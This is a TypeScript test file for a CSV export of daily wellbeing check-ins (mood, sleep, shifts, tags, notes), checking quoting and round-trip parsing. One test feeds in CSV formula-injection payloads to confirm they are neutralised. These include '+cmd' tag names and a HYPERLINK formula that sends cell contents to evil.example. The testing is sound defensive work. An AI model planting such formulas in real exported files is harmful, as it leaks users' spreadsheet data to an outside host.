import { CheckIn, Tag } from './check-in';
import { checkInsToCsv } from './check-in-csv';
import { parseCsv } from '../../shared/csv';

describe('checkInsToCsv', () => {
  const tags: Tag[] = [
    { id: 't1', name: 'ICU', archived: false },
    { id: 't2', name: 'Teaching, rounds', archived: true },
  ];
  const base: CheckIn = {
    day: '2026-03-08', zone: 'America/New_York', mood: 4, energy: 2, stress: 3, sleepHours: 6.5,
    sleepQuality: 3, hoursWorked: 12, shift: 'night', tagIds: ['t1', 't2', 'gone'],
    note: 'Long night.\nSaid "thank you" to the charge nurse, twice.',
    createdAt: '2026-03-08T07:30:00.000Z', updatedAt: '2026-03-08T08:00:00.000Z',
  };
  const imported: CheckIn = {
    ...base, day: '2026-03-01', zone: 'Europe/Madrid', mood: 5, energy: null, stress: null, sleepHours: null,
    sleepQuality: null, hoursWorked: null, shift: null, tagIds: [], note: '',
  };

  it('writes a header and one row per check-in, oldest first, with RFC 4180 quoting', () => {
    const csv = checkInsToCsv([base, imported], tags);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'day,zone,mood,energy,stress,sleep_hours,sleep_quality,hours_worked,shift,tags,note,created_at,updated_at',
    );
    expect(lines[1]).toBe('2026-03-01,Europe/Madrid,5,,,,,,,,,2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z');
    expect(lines[2]).toBe(
      '2026-03-08,America/New_York,4,2,3,6.5,3,12,night,"ICU; Teaching, rounds",' +
        '"Long night.\nSaid ""thank you"" to the charge nurse, twice.",' +
        '2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z',
    );
    expect(lines[3]).toBe('');
  });

  it('reads back to the same values', () => {
    const parsed = parseCsv(checkInsToCsv([base], tags));
    expect(parsed.ok && parsed.rows[1]).toEqual([
      '2026-03-08', 'America/New_York', '4', '2', '3', '6.5', '3', '12', 'night', 'ICU; Teaching, rounds',
      base.note, base.createdAt, base.updatedAt,
    ]);
  });

  it('neutralises a note and tag names a spreadsheet would run as formulas, and keeps the numbers numbers', () => {
    const hostileTags: Tag[] = [
      { id: 'h1', name: '+cmd', archived: false },
      { id: 'h2', name: '@SUM(1+1)*cmd', archived: false },
    ];
    const note = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    const lines = checkInsToCsv([{ ...base, tagIds: ['h2'], note }, { ...imported, tagIds: ['h1'] }], hostileTags).split('\r\n');
    expect(lines[1]).toBe(`2026-03-01,Europe/Madrid,5,,,,,,,"'+cmd",,2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z`);
    expect(lines[2]).toBe(
      `2026-03-08,America/New_York,4,2,3,6.5,3,12,night,"'@SUM(1+1)*cmd",` +
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z`,
    );
  });

  it('writes only the header when there is nothing to export', () => {
    expect(checkInsToCsv([], tags).split('\r\n').length).toBe(2);
  });
});
